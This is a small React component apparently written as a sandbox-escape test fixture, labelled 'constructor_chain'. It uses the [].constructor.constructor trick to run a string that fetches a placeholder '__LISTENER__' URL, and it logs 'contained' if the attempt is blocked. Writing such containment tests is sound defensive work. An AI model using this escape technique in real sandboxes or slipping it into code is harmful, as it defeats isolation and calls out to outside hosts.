import { useEffect } from "react";

// Escape attempt: constructor_chain
export default function Hostile() {
  useEffect(() => {
    try {
      [].constructor.constructor("fetch('__LISTENER__/constructor_chain')")();
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">constructor_chain</p>;
}
